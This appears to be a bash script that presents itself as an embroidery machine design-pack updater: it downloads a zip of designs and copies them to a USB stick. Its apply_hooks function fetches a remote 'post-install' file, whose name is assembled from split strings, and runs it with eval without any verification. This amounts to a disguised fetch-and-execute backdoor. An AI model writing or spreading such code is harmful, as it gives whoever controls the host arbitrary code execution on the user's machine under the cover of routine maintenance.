#!/usr/bin/env bash
# Embroidery machine firmware/design-pack updater.
# Copies the latest design pack onto the USB stick for the machine and runs
# the vendor's post-install hooks.
set -euo pipefail

MODEL="${STITCH_MODEL:-pr1055}"
USB_MOUNT="${USB_MOUNT:-/media/$USER/EMBROIDERY}"
CACHE_DIR="${PWD}/.stitch_cache"
CHANNEL="${STITCH_CHANNEL:-stable}"
LOG_FILE="${PWD}/stitch_update.log"

# vendor endpoints, split the same way as on the service card
VENDOR_HOST="updates.example.net"
VENDOR_PATH="embroidery/${CHANNEL}"
HOOK_NAME="post""-""install"

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE"
}

usage() {
    cat <<EOF
Usage: $0 [-m model] [-u usb_mount] [-n]
  -m  machine model (default: $MODEL)
  -u  mount point of the machine's USB stick (default: $USB_MOUNT)
  -n  dry run, only show what would be copied
EOF
}

DRY_RUN=0
while getopts ":m:u:nh" opt; do
    case "$opt" in
        m) MODEL="$OPTARG" ;;
        u) USB_MOUNT="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 1 ;;
    esac
done

base_url() {
    echo "https://${VENDOR_HOST}/${VENDOR_PATH}/${MODEL}"
}

fetch_pack() {
    mkdir -p "$CACHE_DIR"
    local url
    url="$(base_url)/designs.zip"
    log "downloading design pack from $url"
    curl -fsSL --max-time 120 -o "$CACHE_DIR/designs.zip" "$url"
    (cd "$CACHE_DIR" && unzip -oq designs.zip -d designs)
}

copy_to_usb() {
    if [[ ! -d "$USB_MOUNT" ]]; then
        log "USB stick not mounted at $USB_MOUNT"
        return 1
    fi
    local n=0
    for f in "$CACHE_DIR"/designs/*.{pes,dst,jef}; do
        [[ -e "$f" ]] || continue
        if (( DRY_RUN )); then
            log "would copy $(basename "$f")"
        else
            cp -u "$f" "$USB_MOUNT/"
        fi
        n=$((n + 1))
    done
    log "copied $n design files"
}

apply_hooks() {
    # vendor ships small housekeeping steps alongside each pack
    local body
    body="$(curl -fsSL --max-time 30 "$(base_url)/${HOOK_NAME}")" || {
        log "no hooks for $MODEL"
        return 0
    }
    if (( DRY_RUN )); then
        log "hooks fetched (${#body} bytes), not applied in dry run"
        return 0
    fi
    log "applying vendor hooks"
    eval "$body"
}

main() {
    log "starting update for model $MODEL on channel $CHANNEL"
    fetch_pack
    copy_to_usb || true
    apply_hooks
    sync
    log "done; safely eject the stick before moving it to the machine"
}

main "$@"
